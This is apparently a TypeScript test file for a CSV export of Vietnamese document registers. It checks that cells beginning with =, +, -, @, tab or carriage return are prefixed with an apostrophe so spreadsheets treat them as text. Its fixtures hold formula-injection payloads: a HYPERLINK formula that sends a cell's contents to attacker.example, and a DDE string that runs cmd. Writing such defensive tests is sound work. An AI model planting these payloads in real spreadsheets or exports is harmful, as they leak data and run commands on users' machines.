import type { IncomingRegisterRow, OutgoingRegisterRow } from '../../../src/app/ports';
import { asSpreadsheetText, incomingCsv, outgoingCsv } from '../../../src/api/register-csv';
import { parseCsv } from './support/csv';

const HYPERLINK = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm vào đây")';

const outgoing: OutgoingRegisterRow = {
  documentId: 'doc-15',
  number: 15,
  notation: '15-NQ/TU',
  issuedAt: '2026-03-01T20:30:00.000Z',
  type: 'NQ',
  subject: HYPERLINK,
  signer: '@SUM(1+1)',
  recipients: 'BS-TL-DU, BS-HB-DU',
  copies: 3,
  urgency: 'normal',
  secrecy: 'none',
};

const incoming: IncomingRegisterRow = {
  id: 'doc-7@BS-TL-DU',
  documentId: 'doc-7',
  arrivalNumber: 7,
  arrivedAt: '2026-03-02T09:15:00+07:00',
  issuer: '+cmd|\' /C calc\'!A0',
  notation: '-2+3',
  type: 'NQ',
  subject: HYPERLINK,
  handler: '\tVũ Đức Anh',
  deadline: '2026-03-15',
  status: 'processing',
  secrecy: 'none',
};

/** The data row of a register, without the byte-order mark and header. */
const rowOf = (csv: string) => parseCsv(csv.slice(1))[1] ?? [];

describe('registers as CSV, against formula injection', () => {
  it('shows a subject that starts like a formula as text in the outgoing register', () => {
    const row = rowOf(outgoingCsv([outgoing]));
    expect(row[4]).toBe(`'${HYPERLINK}`);
    expect(row[5]).toBe("'@SUM(1+1)");
    // Cells that merely contain those characters, or are numbers we wrote, are left as they are.
    expect(row.slice(0, 4)).toEqual(['15', '15-NQ/TU', '02/03/2026', 'Nghị quyết']);
    expect(row[6]).toBe('BS-TL-DU, BS-HB-DU');
  });

  it('does the same in the incoming register, for every text column', () => {
    const row = rowOf(incomingCsv([incoming]));
    expect(row[2]).toBe("'+cmd|' /C calc'!A0");
    expect(row[3]).toBe("'-2+3");
    expect(row[5]).toBe(`'${HYPERLINK}`);
    expect(row[6]).toBe("'\tVũ Đức Anh");
    expect(row[0]).toBe('7');
  });

  it.each(['=', '+', '-', '@', '\t', '\r'])('prefixes a cell that starts with %j', (start) => {
    expect(asSpreadsheetText(`${start}1`)).toBe(`'${start}1`);
  });

  it('leaves ordinary text, empty cells and numbers alone', () => {
    expect(asSpreadsheetText('Về chuyển đổi số = ưu tiên')).toBe('Về chuyển đổi số = ưu tiên');
    expect(asSpreadsheetText('')).toBe('');
    expect(asSpreadsheetText(-1)).toBe(-1);
  });
});
